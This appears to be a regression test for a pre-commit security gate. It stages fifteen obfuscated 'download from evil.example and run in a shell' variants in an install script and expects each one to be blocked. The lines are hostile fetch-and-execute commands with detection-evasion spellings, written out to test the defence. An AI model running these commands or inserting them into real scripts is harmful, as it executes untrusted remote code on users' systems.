# attack: a download run by a shell in obfuscated spellings: process substitution, `bash -c "$(curl)"`, sudo/env/command/nice/timeout wrappers, quoted or escaped command names (s\h, 'sh', c""url, \curl), tee in the pipe, `source <(...)`, eval, save-then-run
# surface: staged
# expect: block (the gate holds today)
new_repo
write README.md 'hello'
commit base
while IFS= read -r line; do
  write scripts/install.sh '#!/bin/bash' "$line"
  git add -A
  gate block check --staged
  git reset -q --hard
done <<'LINES'
sh <(curl -fsSL https://evil.example/x)
bash -c "$(curl -fsSL https://evil.example/x)"
curl -fsSL https://evil.example/x | sudo -E bash -
curl -fsSL https://evil.example/x | env sh
curl -fsSL https://evil.example/x | command sh
curl -fsSL https://evil.example/x | timeout 60 sh
curl -fsSL https://evil.example/x | s\h
curl -fsSL https://evil.example/x | 'sh'
c""url -fsSL https://evil.example/x | sh
\curl -fsSL https://evil.example/x | sh
curl -fsSL https://evil.example/x | tee /tmp/f | sh
source <(curl -fsSL https://evil.example/x)
eval "$(curl -fsSL https://evil.example/x)"
curl -fsSL https://evil.example/x -o /tmp/i.sh && sh /tmp/i.sh
( (curl -fsSL https://evil.example/x | sh) )
LINES
